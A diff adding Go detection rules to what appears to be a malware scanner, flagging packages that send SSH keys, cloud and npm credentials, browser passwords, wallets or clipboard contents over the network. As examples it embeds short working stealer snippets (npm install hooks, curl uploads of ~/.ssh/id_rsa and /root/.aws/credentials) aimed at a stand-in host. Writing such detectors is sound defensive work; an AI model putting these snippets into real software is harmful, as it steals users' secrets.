@@ -1,0 +1,40 @@
+package rule
+
+import b "taisei/detect/behaviour"
+
+// theft: what programs keep for themselves (keys, saved passwords, wallets) leaves
+// the machine.
+func theft() []Rule {
+	stores := []string{b.Credential, b.Browser, b.Wallet}
+	return []Rule{
+		{
+			ID: "store_sent", Severity: Critical,
+			When: []Condition{
+				{Triggers: unasked, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
+				{Triggers: unasked, Sources: []string{b.Browser, b.Wallet}, Sinks: []string{b.Network}, Slots: carried},
+			},
+			Examples: []Example{
+				Package("an SSH key", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),os=require('os'),path=require('path');const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'),'utf8');fetch('https://c.example',{method:'POST',body:k})"}),
+				One("cloud credentials", "install.sh", "curl -F 'f=@/root/.aws/credentials' https://c.example/up\n"),
+				Package("npm's token", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs');fs.readFile(process.env.HOME+'/.npmrc',(e,d)=>{const r=require('https').request({host:'c.example',method:'POST'});r.end(d.toString('base64'))})"}),
+				Package("saved passwords", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs');const p=process.env.LOCALAPPDATA+'\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';require('axios').post('https://c.example/u',fs.readFileSync(p))"}),
+				One("piped", "setup.sh", "cat ~/.ssh/id_rsa | base64 | curl -d @- https://c.example/k\n"),
+			},
+			Neighbours: []Example{
+				Package("read for its own use", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs'),os=require('os');const rc=fs.readFileSync(os.homedir()+'/.npmrc','utf8');exports.registry=/registry=(.*)/.exec(rc)"}),
+				Package("as authorisation", `"main":"i.js"`, map[string]string{"i.js": "const fs=require('fs');const t=fs.readFileSync('/root/.config/gh/hosts.yml','utf8');fetch('https://api.example',{headers:{authorization:t}})"}),
+				One("a public key installed", "setup.sh", "curl https://keys.example/me.pub >> ~/.ssh/known_hosts\n"),
+			},
+		},
+		{
+			ID: "clipboard_sent", Severity: High,
+			When: []Condition{{Sources: []string{b.Clipboard}, Sinks: []string{b.Network}, Target: Foreign}},
+			Examples: []Example{
+				Package("read and sent", `"main":"i.js"`, map[string]string{"i.js": "const c=require('clipboardy');setInterval(()=>{fetch('https://c.example',{method:'POST',body:c.readSync()})},500)"}),
+			},
+			Neighbours: []Example{
+				Package("written only", `"main":"i.js"`, map[string]string{"i.js": "require('clipboardy').writeSync('copied')"}),
+			},
+		},
+	}
+}
